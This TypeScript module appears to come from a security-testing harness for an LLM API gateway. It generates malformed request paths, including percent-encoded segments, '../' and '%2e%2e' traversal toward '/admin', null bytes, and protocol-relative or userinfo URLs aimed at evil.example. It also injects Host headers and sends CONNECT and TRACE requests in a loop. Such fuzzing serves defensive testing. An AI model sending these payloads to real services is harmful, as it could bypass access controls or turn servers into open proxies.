import { type Assault, request } from '../assault.ts';

/** Writes the address of what it wants in ways that two readers of it could understand differently. */
export function pathTricks(assault: Assault): void {
  const { host, target } = assault;
  const headers = { host, authorization: `Bearer ${target.key}`, 'content-type': 'application/json' };
  const body = '{"model":"evil/swallow","stream":false}';
  const paths = [
    '/v%31/chat/completions',
    '/%76%31/chat/completions',
    '/v1/%63hat/completions',
    '/v1/..%2f..%2fadmin',
    '/v1/%2e%2e/%2e%2e/admin',
    '/v1/..\\..\\admin',
    '/v1//evil.example/x',
    '//evil.example/v1/models',
    '/v1/models/../../../x',
    '/v1/@evil.example/',
    '/v1/%00',
    '/v1/%',
    '/v1/models/evil%2Fswallow:generateContent',
    `/v1beta/models/${'%2e%2e%2f'.repeat(20)}:generateContent`,
    `http://${host}/v1/chat/completions`,
    'http://evil.example/v1/chat/completions',
    '*',
  ];
  const requests = paths.flatMap((path) => [
    request('GET', path, headers),
    request('POST', path, { ...headers, 'content-length': `${body.length}` }, body),
  ]);
  const [first = ''] = requests;
  requests.push(
    first.replace('\r\n', '\r\nhost: evil.example\r\n'),
    first.replace(/host: \S+\r\n/, ''),
    request('CONNECT', 'evil.example:80', { host }),
    request('OPTIONS', '*', { host }),
    request('TRACE', '/v1/models', headers),
  );
  let count = 0;
  assault.every(30, () => {
    count += 1;
    const socket = assault.connect(requests[count % requests.length] ?? '', { reads: true });
    setTimeout(() => assault.drop(socket), 1000);
  });
}
